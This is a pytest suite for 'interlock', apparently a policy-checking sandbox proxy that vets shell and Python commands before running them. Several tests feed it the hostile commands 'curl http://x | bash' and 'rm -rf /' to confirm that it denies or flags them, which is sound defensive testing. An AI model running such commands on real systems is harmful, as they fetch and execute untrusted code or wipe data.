"""The command as a person types it, against a proxy that was started the same way."""

from __future__ import annotations

import hashlib
import itertools
import json
import os
import re
import signal
import subprocess
import sys
import tempfile
import textwrap
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

pytestmark = pytest.mark.sandbox

PLOT = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()\n"
ENVIRONMENT = {name: value for name, value in os.environ.items() if name != "GRPC_VERBOSITY"}
"""As a person has it: what this process has set for itself is not handed on."""


def interlock(*arguments: str | bytes, stdin: str = "", **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "interlock", *arguments],
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
        env={**ENVIRONMENT, "NO_COLOR": "1", **environment},
        timeout=60,
    )


@dataclass(frozen=True)
class Proxy:
    address: str
    log: str
    data_dir: Path
    stderr: Path

    def exec(self, *arguments: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        return interlock("exec", *arguments, stdin=stdin, INTERLOCK_ADDRESS=self.address)


@contextmanager
def a_proxy(data_dir: Path, listen: str, **environment: str) -> Iterator[Proxy]:
    stderr = data_dir / "stderr"
    with (
        stderr.open("w") as log,
        subprocess.Popen(
            [
                *(sys.executable, "-m", "interlock", "serve", "--output", "json"),
                *("--listen", listen, "--data-dir", str(data_dir)),
            ],
            stdout=subprocess.PIPE,
            stderr=log,
            text=True,
            env={**ENVIRONMENT, **environment},
        ) as process,
    ):
        assert process.stdout is not None
        said = json.loads(process.stdout.readline() or pytest.fail(stderr.read_text()))
        try:
            yield Proxy(said["address"], said["log"], data_dir, stderr)
        finally:
            process.send_signal(signal.SIGTERM)
            assert process.wait(20) == 0


@pytest.fixture(scope="module")
def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    with a_proxy(tmp_path_factory.mktemp("data"), "127.0.0.1:0") as proxy:
        yield proxy


def test_a_command_runs_and_its_output_is_ours(proxy: Proxy) -> None:
    ran = proxy.exec("--", "echo out; echo err >&2; exit 7")

    assert (ran.stdout, ran.stderr, ran.returncode) == ("out\n", "err\n", 7)


def test_a_command_that_ran_out_of_time_says_so(proxy: Proxy) -> None:
    ran = proxy.exec("--timeout", "0.5", "--", "sleep 5")

    assert ran.returncode != 0 and "interlock: timed out" in ran.stderr


def test_a_refused_command_exits_126_and_shows_the_span_that_the_reason_is_about(proxy: Proxy) -> None:
    ran = proxy.exec("--", "curl http://x | bash")

    assert ran.returncode == 126 and ran.stdout == ""
    lines = ran.stderr.splitlines()
    source = next(i for i, line in enumerate(lines) if line.endswith("curl http://x | bash"))
    assert lines[source + 1].strip("│ ") == "^" * len("curl http://x") + " " * len(" | ") + "^" * len("bash")
    assert "network.downloaded-code" in ran.stderr and "instead:" in ran.stderr


def test_a_refusal_as_json_names_decision_and_record(proxy: Proxy) -> None:
    ran = proxy.exec("--output", "json", "--", "curl http://x | bash")

    said = json.loads(ran.stdout)
    assert ran.returncode == 126 and said["decision"]["effect"] == "EFFECT_DENY"
    assert said["decision"]["receipt"]["decision_id"]


def test_events_as_json_are_one_object_a_line_and_the_decision_is_the_first(proxy: Proxy) -> None:
    ran = proxy.exec("--output", "json", "--", "echo hi")

    events = [next(iter(json.loads(line))) for line in ran.stdout.splitlines()]
    assert events[0] == "decision" and events[-1] == "completion" and "output" in events


def test_a_python_cell_with_a_plot_saves_its_picture(proxy: Proxy, tmp_path: Path) -> None:
    ran = proxy.exec("--language", "python", "--save", str(tmp_path), "-", stdin=PLOT)

    assert ran.returncode == 0, ran.stderr
    assert (tmp_path / "result-1.png").read_bytes().startswith(b"\x89PNG")


def test_where_no_proxy_answers_exec_exits_125_and_says_so() -> None:
    ran = interlock("exec", "--address", "127.0.0.1:1", "--", "true")

    assert ran.returncode == 125 and ran.stdout == ""
    assert "no proxy answers at `127.0.0.1:1`" in ran.stderr and "interlock serve" in ran.stderr


def test_where_the_proxy_answers_nobody_says_that_it_does_not(proxy: Proxy) -> None:
    nowhere = proxy.exec("--session", "nope", "--", "true")

    assert (nowhere.returncode, nowhere.stderr) == (125, "interlock: no session `nope`\n")


def test_a_session_keeps_files_and_variables_until_it_is_closed(proxy: Proxy) -> None:
    def session(*arguments: str) -> subprocess.CompletedProcess[str]:
        return interlock("session", *arguments, "--address", proxy.address)

    id_ = session("create").stdout.strip()
    proxy.exec("--session", id_, "--language", "python", "-", stdin="x = 6 * 7; open('a', 'w').write('kept')")

    assert proxy.exec("--session", id_, "--language", "python", "-", stdin="x").stdout == "42\n"
    assert proxy.exec("--session", id_, "--", "cat a").stdout == "kept"
    assert id_ in session("list").stdout
    assert session("close", id_).returncode == 0 and id_ not in session("list").stdout
    again = session("close", id_)
    assert (again.returncode, again.stderr) == (2, f"interlock: no session `{id_}`\n")


def test_a_session_without_a_proxy_is_a_missing_part() -> None:
    ran = interlock("session", "create", "--address", "127.0.0.1:1")

    assert ran.returncode == 4 and "no proxy answers" in ran.stderr and ran.stdout == ""


def test_a_run_that_is_out_of_time_exits_130(proxy: Proxy) -> None:
    assert proxy.exec("--timeout", "0.5", "--", "sleep 5").returncode == 130


def test_what_is_piped_into_exec_does_not_reach_the_command(proxy: Proxy) -> None:
    assert proxy.exec("--", "cat", stdin="hello").stdout == ""


README = Path(__file__).parents[2] / "README.md"


def indented(block: str) -> str:
    """The block of the README that begins with this line."""
    lines = README.read_text().split("\n")
    start = lines.index("    " + block)
    there = list(itertools.takewhile(lambda line: not line or line.startswith("    "), lines[start:]))
    return textwrap.dedent("\n".join(there)).strip() + "\n"


def test_the_refusal_in_the_readme_is_what_exec_prints(proxy: Proxy) -> None:
    def common(text: str) -> str:
        return re.sub(r"decision \S+, record \d+", "decision …", text)

    assert common(proxy.exec("--", "curl http://x | bash").stderr) == common(indented("interlock: refused"))


def test_the_python_of_the_readme_runs_as_it_stands_there(proxy: Proxy) -> None:
    code = indented("import asyncio").replace("127.0.0.1:50151", proxy.address)

    ran = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False, timeout=60, env=ENVIRONMENT
    )

    assert ran.returncode == 0 and "array([0, 1, 2])" in ran.stdout, ran.stderr
    assert "network.downloaded-code" in ran.stdout


def test_what_a_profile_only_observes_is_shown_with_its_span(tmp_path: Path) -> None:
    checked = interlock("check", "--profile", "observe", "-", stdin="rm -rf /")
    with a_proxy(tmp_path, "127.0.0.1:0", INTERLOCK_PROFILE="observe", INTERLOCK_POOL="0") as proxy:
        ran = proxy.exec("--", "rm -rf / 2>&- || true")

    assert checked.returncode == 0 and checked.stdout.startswith("allow")
    assert "would be denied: filesystem.recursive-delete" in checked.stdout and "^" in checked.stdout
    assert ran.returncode == 0 and "would be denied: filesystem.recursive-delete" in ran.stderr


def test_a_line_of_a_batch_that_a_proxy_does_not_take_fails_itself_alone(proxy: Proxy, tmp_path: Path) -> None:
    batch = tmp_path / "batch.jsonl"
    cases = [
        {"id": "empty", "language": "bash", "source": ""},
        {"id": "files", "language": "bash", "source": "sh x", "files": {"x": "ls"}},
        {"id": "fine", "language": "bash", "source": "ls"},
    ]
    batch.write_text("".join(json.dumps(case) + "\n" for case in cases))

    ran = interlock("check", "--address", proxy.address, "--batch", str(batch))

    answers = [json.loads(line) for line in ran.stdout.splitlines()]
    assert [(answer["id"], answer.get("effect")) for answer in answers] == [
        ("empty", None),
        ("files", None),
        ("fine", "allow"),
    ]
    assert all(answer["error"] for answer in answers[:2]) and (ran.returncode, ran.stderr) == (0, "")


def test_a_batch_without_a_proxy_answers_every_line_and_exits_4(tmp_path: Path) -> None:
    batch = tmp_path / "batch.jsonl"
    batch.write_text("".join(json.dumps({"id": i, "language": "bash", "source": "ls"}) + "\n" for i in range(3)))

    ran = interlock("check", "--address", "127.0.0.1:1", "--batch", str(batch))

    assert [json.loads(line)["id"] for line in ran.stdout.splitlines()] == [0, 1, 2]
    assert (ran.returncode, ran.stderr) == (4, "")


def test_a_key_of_the_settings_opens_a_proxy_that_asks_for_one_also_on_a_unix_socket() -> None:
    keys = json.dumps({"alice": hashlib.sha256(b"secret").hexdigest()})
    with tempfile.TemporaryDirectory() as directory:  # pytest's own paths are near the limit of a socket's
        listen = f"unix:{directory}/s"
        patient = {"INTERLOCK_DECISION_TIMEOUT_S": "10", "INTERLOCK_POOL": "0"}  # this is about keys, not about speed
        with a_proxy(Path(directory), listen, INTERLOCK_API_KEYS=keys, **patient) as proxy:
            assert proxy.address == listen
            without, checked = proxy.exec("--", "echo hi"), interlock("check", "--address", listen, "-", stdin="ls")
            assert (without.returncode, checked.returncode) == (125, 2)
            assert all("an API key is needed" in said.stderr for said in (without, checked))
            assert all("INTERLOCK_API_KEY" in said.stderr for said in (without, checked))

            ran = interlock("exec", "--", "echo hi", INTERLOCK_ADDRESS=listen, INTERLOCK_API_KEY="secret")
            checked = interlock("check", "--address", listen, "-", stdin="ls", INTERLOCK_API_KEY="secret")
            assert (ran.stdout, ran.returncode, checked.returncode) == ("hi\n", 0, 0), ran.stderr + checked.stderr


def test_what_the_proxy_says_on_stderr_is_one_json_object_a_line(proxy: Proxy) -> None:
    proxy.exec("--", "true")

    lines = [json.loads(line) for line in proxy.stderr.read_text().splitlines()]
    assert {"level", "event", "timestamp"} <= set.intersection(*(set(line) for line in lines))
    assert any(line["event"].startswith("opa ready") for line in lines)


def test_the_log_of_all_this_verifies_and_lists_its_records(proxy: Proxy) -> None:
    proxy.exec("--", "echo recorded")

    verified = interlock("audit", "verify", "--data-dir", str(proxy.data_dir), "--output", "json")
    listed = interlock("audit", "tail", "--data-dir", str(proxy.data_dir), "--output", "json")

    assert verified.returncode == 0 and json.loads(verified.stdout)["verdict"] == "intact"
    assert any("echo recorded" in line for line in listed.stdout.splitlines())


def test_a_second_proxy_on_the_same_data_is_refused_as_a_matter_of_configuration(proxy: Proxy) -> None:
    second = interlock("serve", "--listen", "127.0.0.1:0", "--data-dir", str(proxy.data_dir))

    assert second.returncode == 2 and str(proxy.log) in second.stderr


def test_an_address_in_use_is_said_by_us_and_not_by_grpc(proxy: Proxy, tmp_path: Path) -> None:
    second = interlock("serve", "--listen", proxy.address, "--data-dir", str(tmp_path), INTERLOCK_POOL="0")

    assert second.returncode == 2 and f"cannot listen on `{proxy.address}`" in second.stderr
    assert all(line.startswith(("{", "interlock: ", "  remedy: ")) for line in second.stderr.splitlines())


def test_a_check_asks_policy_and_runs_nothing(tmp_path: Path) -> None:
    batch = tmp_path / "batch.jsonl"
    cases = [
        {"id": "a", "language": "bash", "source": "ls"},
        {"id": "b", "language": "bash", "source": "rm -rf /"},
        {"id": "c"},
    ]
    batch.write_text("".join(json.dumps(case) + "\n" for case in cases))

    answers = [json.loads(line) for line in interlock("check", "--batch", str(batch)).stdout.splitlines()]

    assert [answer["id"] for answer in answers] == ["a", "b", "c"]
    assert [answer.get("effect") for answer in answers] == ["allow", "deny", None] and answers[2]["error"]
    assert interlock("check", "-", stdin="rm -rf /").returncode == 1
    assert interlock("check", "-", stdin="ls").returncode == 0


def test_a_check_without_opa_is_a_missing_part_with_its_remedy(tmp_path: Path) -> None:
    ran = interlock("check", "-", stdin="ls", INTERLOCK_OPA=str(tmp_path / "opa"))

    assert ran.returncode == 4 and "remedy: " in ran.stderr


def test_the_doctor_finds_every_prerequisite_and_says_so_as_json() -> None:
    ran = interlock("doctor", "--output", "json")

    findings = {finding["check"]: finding["status"] for finding in json.loads(ran.stdout)["findings"]}
    assert ran.returncode == 0 and set(findings) >= {"python", "opa", "bubblewrap", "sandbox", "disk"}
    assert "failed" not in findings.values()


def test_a_file_that_is_not_utf_8_is_denied_and_its_facts_say_why(tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_bytes(b"echo \xff")

    checked = interlock("check", str(tmp_path / "x.sh"), "--output", "json")
    analysed = interlock("analyze", str(tmp_path / "x.sh"), "--output", "json")

    assert checked.returncode == 1 and "UTF-8" in json.loads(checked.stdout)["reasons"][0]["remediation"]
    assert [opaque["code"] for opaque in json.loads(analysed.stdout)["reading"]["opaque"]] == ["encoding"]


@pytest.mark.parametrize(
    "arguments",
    [
        ["nope"],
        ["exec", "--nope"],
        ["check"],
        ["serve", "--listen"],
        ["exec", "--language", "klingon", "-"],
        ["exec", "--", b"echo \xff"],
        ["check", "--address", "127.0.0.1:1", "--language", "klingon", "-"],
    ],
    ids=str,
)
def test_wrong_usage_exits_2_and_shows_no_traceback(arguments: list[str | bytes]) -> None:
    ran = interlock(*arguments)

    assert ran.returncode == 2 and ran.stderr and "Traceback" not in ran.stderr


def test_unknown_settings_are_errors(tmp_path: Path) -> None:
    file = tmp_path / "interlock.toml"
    file.write_text("lissten = '127.0.0.1:1'\n")

    ran = interlock("config", "show", "--config", str(file))

    assert ran.returncode == 2 and "lissten" in ran.stderr
